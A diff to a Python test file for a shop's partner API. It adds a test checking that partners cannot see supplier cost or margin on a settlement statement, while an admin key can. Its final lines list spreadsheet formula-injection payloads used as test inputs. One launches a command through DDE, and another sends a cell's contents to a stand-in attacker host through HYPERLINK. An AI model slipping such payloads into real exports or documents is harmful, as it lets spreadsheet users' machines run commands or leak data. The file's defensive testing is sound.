@@ -128,6 +128,26 @@ async def test_a_partners_export_leaves_out_supplier_cost_and_margin(shop: Shop,
     ]
 
 
+FIGURES = """
+query N($id: ID!) { node(id: $id) { ... on SettlementStatement {
+  totals { gross { amount } supplierCost { amount } commission { amount } margin { amount } net { amount } }
+  lines(first: 1) { edges { node { gross { amount } cost { amount } commission { amount } margin { amount } } } } } } }
+"""
+
+
+async def test_a_partner_reads_its_statement_without_supplier_cost_or_margin(shop: Shop, books: Books) -> None:
+    partner = await shop.gql(FIGURES, {"id": books.statement}, key=books.ours.key)
+    operator = await shop.gql(FIGURES, {"id": books.statement}, key=shop.keys.admin)
+
+    assert partner == {"data": {"node": {
+        "totals": {"gross": {"amount": "60.00"}, "supplierCost": None, "commission": {"amount": "3.00"}, "margin": None,
+                   "net": {"amount": "28.50"}},
+        "lines": {"edges": [{"node": {"gross": {"amount": "10.00"}, "cost": None, "commission": {"amount": "0.50"}, "margin": None}}]},
+    }}}
+    assert operator["data"]["node"]["totals"]["supplierCost"] == {"amount": "54.00"}
+    assert operator["data"]["node"]["lines"]["edges"][0]["node"]["margin"] == {"amount": "0.50"}
+
+
 # Order numbers a partner could send as its own (the idempotency key), each a formula to a spreadsheet.
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
